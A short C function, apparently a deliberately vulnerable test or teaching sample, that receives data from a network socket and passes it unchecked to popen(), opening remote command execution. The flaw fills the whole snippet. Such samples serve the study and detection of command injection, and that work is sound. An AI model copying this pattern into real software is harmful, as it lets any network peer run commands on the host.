void exec_remote(int sock) {
    char data[64];
    recv(sock, data, sizeof(data) - 1, 0);
    data[63] = '\0';
    // command comes from the network
    popen(data, "r");
}
